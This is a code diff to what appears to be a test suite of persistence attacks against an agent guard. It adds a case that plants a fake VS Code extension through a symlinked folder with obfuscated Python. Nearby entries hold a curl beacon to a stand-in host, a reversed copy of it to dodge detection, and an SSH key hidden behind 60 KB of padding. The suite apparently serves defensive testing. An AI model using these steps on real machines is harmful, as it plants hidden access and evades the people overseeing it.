@@ -10,8 +10,24 @@ const beacon = 'curl -s http://collect.example/beacon';
 const backwards = [...beacon].reverse().join('');
 const noKey = `sed -i '/${key}/d' ${keys}`;
 
-/** Keys, jobs and start-up entries. */
+const extensions = '/home/user/.vscode/extensions';
+const extension = `${extensions}/brightdesk.desk-helper-1.0.0`;
+const addsExtension = { oracle: 'adds-extension', contains: ['brightdesk.desk-helper'] };
+const manifest = '{"name": "desk-helper", "publisher": "brightdesk", "version": "1.0.0", "engines": {"vscode": "*"}}';
+
+/** Keys, jobs, start-up entries and extensions. */
 export const persistenceAttacks: readonly OracleAttack[] = [
+  {
+    ...{ name: 'extension-through-another-name', inCi: true, kind: 'link', harm: addsExtension },
+    steps: [
+      `mkdir -p ${extensions}; ln -s ${extensions} ~/notes-of-may`,
+      hidden(
+        `import os\nos.makedirs('/home/user/notes-of-may/brightdesk.desk-helper-1.0.0')\nopen('/home/user/notes-of-may/brightdesk.desk-helper-1.0.0/package.json', 'w').write('''${manifest}''')\nos.remove('/home/user/notes-of-may')`,
+      ),
+    ],
+    isThere: `grep -q brightdesk ${extension}/package.json`,
+    undo: `rm -rf ${extension}`,
+  },
   {
     ...{ name: 'key-behind-60-kb-of-comments', kind: 'broken file', harm: addsKey, undo: `echo '# none' > ${keys}` },
     steps: [`mkdir -p ~/.ssh; { yes '# a note' | head -c 60000; echo; echo '${line}'; } >> ${keys}`],
